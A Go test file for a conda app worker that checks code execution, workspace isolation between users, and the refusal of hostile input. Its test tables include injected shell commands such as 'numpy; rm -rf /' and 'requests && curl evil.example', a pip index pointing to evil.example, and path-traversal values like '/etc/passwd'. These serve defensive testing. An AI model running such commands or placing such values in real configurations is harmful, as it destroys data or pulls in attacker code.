package conda

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hypha-go/hypha/internal/testserver"
	"github.com/hypha-go/hypha/rpc"
	"github.com/hypha-go/hypha/server"
	"github.com/hypha-go/hypha/server/auth"
	"github.com/hypha-go/hypha/worker"
	"github.com/hypha-go/hypha/worker/hyphaworker"
)

// appsSetup is a server with its apps controller, the conda worker
// registered in public as the embedded server does, and two users.
type appsSetup struct {
	s          *server.Server
	w          *Worker
	hosted     *hyphaworker.Hosted
	alice, bob *rpc.Client
}

func newAppsSetup(t testing.TB) *appsSetup {
	t.Helper()
	s := testserver.Start(t, server.Config{DataDir: t.TempDir()})
	root := auth.RootUser()
	root.Scope.CurrentWorkspace = "public"
	root.CurrentWorkspace = "public"
	tok, err := s.Issuer().Generate(root, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	wc := testserver.Connect(t, s, rpc.Config{Token: tok, Workspace: "public", ClientID: "builtin-conda-worker"})
	w := New(Options{CondaPath: fakeConda(t), CacheDir: testserver.SharedTempDir(t), WorkDir: testserver.SharedTempDir(t),
		NoPipVenv: true, StopGrace: 2 * time.Second, Logger: testserver.Logger(t)})
	if err := w.Check(ctxT(t, 30*time.Second)); err != nil {
		t.Fatal(err)
	}
	h, err := hyphaworker.Host(ctxT(t, 30*time.Second), wc, w, hyphaworker.Options{Visibility: hyphaworker.Public, UseLocalURL: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		if err := h.Close(ctx); err != nil {
			t.Errorf("close: %v", err)
		}
	})
	user := func(id string) *rpc.Client {
		tok, err := s.Issuer().Generate(&auth.UserInfo{ID: id, Roles: []string{}, Scope: auth.Scope{CurrentWorkspace: "ws-user-" + id}}, time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		return testserver.Connect(t, s, rpc.Config{Token: tok, ClientID: id + "-client"})
	}
	return &appsSetup{s: s, w: w, hosted: h, alice: user("alice"), bob: user("bob")}
}

func appsOf(t testing.TB, c *rpc.Client) *rpc.RemoteService {
	t.Helper()
	svc, err := c.GetService(ctxT(t, 10*time.Second), "public/server-apps")
	if err != nil {
		t.Fatal(err)
	}
	return svc
}

// installStart installs and starts a conda app as alice; it returns the
// session id.
func (a *appsSetup) installStart(t testing.TB, main string) string {
	t.Helper()
	apps := appsOf(t, a.alice)
	ctx := ctxT(t, 120*time.Second)
	_, err := apps.Call(ctx, "install", rpc.Kwargs{
		"app_id":           "conda-app",
		"manifest":         map[string]any{"type": Type, "name": "Conda App", "entry_point": "main.py"},
		"files":            []any{map[string]any{"path": "main.py", "content": main}},
		"wait_for_service": false,
		"timeout":          60.0,
	})
	if err != nil {
		t.Fatalf("install: %v", err)
	}
	v, err := apps.Call(ctx, "start", "conda-app", rpc.Kwargs{"timeout": 60.0, "wait_for_service": false})
	if err != nil {
		t.Fatalf("start: %v", err)
	}
	sid, _ := v.(map[string]any)["id"].(string)
	if !strings.HasPrefix(sid, "ws-user-alice/") {
		t.Fatalf("session %v", v)
	}
	return sid
}

// TestServerAppsExecute: the whole path: install (compile adds the
// kernel packages and hypha-rpc), start on the controller, execute
// through the controller's relay with state across calls, the logs, and
// stop with nothing left.
func TestServerAppsExecute(t *testing.T) {
	a := newAppsSetup(t)
	sid := a.installStart(t, "greeting = 'hi from the kernel'\nprint('started', flush=True)\n")
	apps := appsOf(t, a.alice)
	ctx := ctxT(t, 60*time.Second)
	v, err := apps.Call(ctx, "execute", sid, "print(greeting)\n6*7")
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	r := v.(map[string]any)
	outs, _ := r["outputs"].([]any)
	if r["status"] != "ok" || len(outs) != 2 || outs[0].(map[string]any)["text"] != "hi from the kernel\n" ||
		outs[1].(map[string]any)["data"].(map[string]any)["text/plain"] != "42" {
		t.Fatalf("execute result: %v", r)
	}
	v, err = apps.Call(ctx, "execute", rpc.Kwargs{"session_id": sid, "script": "1/0"})
	if err != nil {
		t.Fatal(err)
	}
	if e, _ := v.(map[string]any)["error"].(map[string]any); e["ename"] != "ZeroDivisionError" {
		t.Fatalf("exception through the relay: %v", v)
	}
	logs, err := apps.Call(ctx, "get_logs", sid, rpc.Kwargs{"type": "stdout"})
	if err != nil || !strings.Contains(strings.Join(logContents(logs), "\n"), "started") {
		t.Fatalf("logs: %v %v", logs, err)
	}
	// compile normalised the manifest as upstream: the session was
	// started with the kernel packages and hypha-rpc asked for.
	s, err := a.w.Sessions.Lookup(sid)
	if err != nil {
		t.Fatal(err)
	}
	deps := s.Info().Metadata["dependencies"]
	if d, _ := deps.([]any); len(d) < 5 || !strings.Contains(stringsOf(d), "hypha-rpc") || !strings.Contains(stringsOf(d), "ipykernel") {
		t.Errorf("dependencies after compile: %v", deps)
	}
	pid := kernelPID(t, a.w, sid)
	if _, err := apps.Call(ctx, "stop", sid); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the kernel to end", func() bool { return !alive(pid) && a.w.Sessions.Len() == 0 })
}

func stringsOf(list []any) string {
	var b strings.Builder
	for _, v := range list {
		switch x := v.(type) {
		case string:
			b.WriteString(x + " ")
		case map[string]any:
			for _, p := range x["pip"].([]any) {
				b.WriteString(p.(string) + " ")
			}
		}
	}
	return b.String()
}

// TestHostileExecuteOtherWorkspace: another workspace's user can execute
// code in alice's kernel neither through the controller nor by calling
// the worker directly, and learns nothing of the session.
func TestHostileExecuteOtherWorkspace(t *testing.T) {
	a := newAppsSetup(t)
	sid := a.installStart(t, "secret = 'alice only'\n")
	ctx := ctxT(t, 30*time.Second)

	_, err := appsOf(t, a.bob).Call(ctx, "execute", sid, "secret")
	if err == nil {
		t.Fatal("bob executed code in alice's session through the controller")
	}
	svc, err := a.bob.GetService(ctx, a.hosted.ServiceID)
	if err != nil {
		t.Fatalf("bob cannot even see the public worker: %v", err)
	}
	for _, args := range [][]any{
		{sid, "secret"},
		{sid, "secret", nil, nil, rpc.Kwargs{"context": map[string]any{"ws": "ws-user-alice", "user": map[string]any{"id": "alice"}}}},
	} {
		v, err := svc.Call(ctx, "execute", args...)
		if err == nil {
			t.Fatalf("bob executed code in alice's session on the worker directly: %v", v)
		}
		if strings.Contains(err.Error(), "alice only") {
			t.Fatalf("the refusal shows alice's data: %v", err)
		}
	}
	// Alice's kernel is untouched.
	v, err := appsOf(t, a.alice).Call(ctx, "execute", sid, "secret")
	if err != nil || v.(map[string]any)["status"] != "ok" {
		t.Fatalf("alice's execute after the attempts: %v %v", v, err)
	}
}

// TestHostileExecuteWorkspace: the worker itself refuses a caller of
// another workspace (Registry.LookupFor), like a missing session.
func TestHostileExecuteWorkspace(t *testing.T) {
	w := newWorker(t, nil)
	fs := newFileServer(t, map[string]string{"main.py": "x = 'mine'\n"})
	id := startApp(t, w, fs, "ws-a", "c1", nil)
	ctx := worker.WithCaller(ctxT(t, 10*time.Second), worker.Caller{Workspace: "ws-b", User: map[string]any{"id": "mallory"}})
	_, err := w.Execute(ctx, worker.ExecuteRequest{SessionID: id, Script: "x"})
	if !errors.Is(err, worker.ErrSessionNotFound) {
		t.Fatalf("execute from another workspace: %v", err)
	}
}

// TestHostileFilesToStage: files_to_stage entries that leave the working
// directory, and listings that name such paths, are refused before
// anything lands outside it.
func TestHostileFilesToStage(t *testing.T) {
	w := newWorker(t, nil)
	fs := newFileServer(t, map[string]string{"main.py": "pass\n", "ok.txt": "x"})
	outside := filepath.Join(filepath.Dir(w.Options().WorkDir), "escaped.txt")
	for _, entry := range []string{"../escaped.txt", "ok.txt:../escaped.txt", "ok.txt:/tmp/escaped.txt", "/etc/passwd",
		"a/../../escaped.txt", "dir/:../up/", "ok.txt:dir/", "ok.txt:a\\..\\b", "ok.txt:x\x00y", ""} {
		_, err := w.Start(ctxT(t, 60*time.Second), config(fs, "ws1", "c1", worker.Manifest{"files_to_stage": []any{entry}}))
		if !errors.Is(err, worker.ErrInvalidConfig) {
			t.Errorf("files_to_stage %q: %v, want an invalid config error", entry, err)
		}
	}
	if _, err := w.Compile(ctxT(t, 10*time.Second), worker.CompileRequest{Manifest: worker.Manifest{"type": Type, "files_to_stage": []any{"../x"}}}); !errors.Is(err, worker.ErrInvalidConfig) {
		t.Errorf("compile with a traversing files_to_stage: %v", err)
	}
	// A listing that names "../x" (a hostile file server).
	evil := newFileServer(t, map[string]string{"main.py": "pass\n"})
	evil.Config.Handler = hostileListing(evil.Config.Handler)
	_, err := w.Start(ctxT(t, 60*time.Second), config(evil, "ws1", "c2", worker.Manifest{"files_to_stage": []any{"data/"}}))
	if !errors.Is(err, worker.ErrInvalidConfig) || !strings.Contains(err.Error(), "not a plain file name") {
		t.Errorf("hostile listing: %v", err)
	}
	if exists(outside) {
		t.Errorf("%s was written", outside)
	}
	if n := w.Sessions.Len(); n != 0 {
		t.Errorf("%d sessions left", n)
	}
}

// TestHostileSpec: dependency, pip and channel strings that try shell or
// option injection are refused by compile and start, before any manager
// runs.
func TestHostileSpec(t *testing.T) {
	logf := filepath.Join(t.TempDir(), "builds")
	t.Setenv("FAKE_CONDA_LOG", logf)
	w := newWorker(t, nil)
	fs := newFileServer(t, map[string]string{"main.py": "pass\n"})
	for _, man := range []worker.Manifest{
		{"dependencies": []any{"numpy; rm -rf /"}},
		{"dependencies": "$(touch /tmp/pwned)"},
		{"dependencies": []any{"--override-channels"}},
		{"dependencies": []any{map[string]any{"pip": []any{"--index-url=http://evil.example/simple"}}}},
		{"dependencies": []any{map[string]any{"pip": []any{"requests && curl evil.example"}}}},
		{"dependencies": []any{"numpy\nchannels: [evil]"}},
		{"channels": []any{"-c evil"}},
		{"channels": []any{"file:///etc"}},
		{"dependencies": []any{map[string]any{"pip": "x", "conda": "y"}}},
		{"dependencies": 42},
	} {
		if _, err := w.Compile(ctxT(t, 10*time.Second), worker.CompileRequest{Manifest: man}); !errors.Is(err, worker.ErrInvalidConfig) {
			t.Errorf("compile %v: %v, want an invalid config error", man, err)
		}
		_, err := w.Start(ctxT(t, 60*time.Second), config(fs, "ws1", "c1", man))
		if !errors.Is(err, worker.ErrInvalidConfig) {
			t.Errorf("start %v: %v, want an invalid config error", man, err)
		}
	}
	if data, _ := os.ReadFile(logf); len(data) > 0 {
		t.Errorf("the manager ran for a hostile spec: %s", data)
	}
	if exists("/tmp/pwned") {
		t.Error("/tmp/pwned exists")
	}
}

// TestCompile: compile normalises as upstream does.
func TestCompile(t *testing.T) {
	w := newWorker(t, nil)
	res, err := w.Compile(ctxT(t, 10*time.Second), worker.CompileRequest{
		Manifest: worker.Manifest{"type": Type, "dependencies": "numpy", "channels": "bioconda"},
		Files:    []worker.File{{Path: "main.py", Content: "pass"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	m := res.Manifest
	if m["entry_point"] != "main.py" || len(res.Files) != 1 {
		t.Errorf("manifest %v files %v", m, res.Files)
	}
	if got := stringsOf(m["dependencies"].([]any)); got != "numpy pip ipykernel jupyter_client pyzmq hypha-rpc " {
		t.Errorf("dependencies: %q", got)
	}
	if ch := m["channels"].([]any); len(ch) != 1 || ch[0] != "bioconda" {
		t.Errorf("channels: %v", ch)
	}
}

func logContents(v any) []string {
	m, _ := v.(map[string]any)
	items, _ := m["items"].([]any)
	var out []string
	for _, it := range items {
		if e, ok := it.(map[string]any); ok {
			if s, ok := e["content"].(string); ok {
				out = append(out, s)
			}
		}
	}
	return out
}
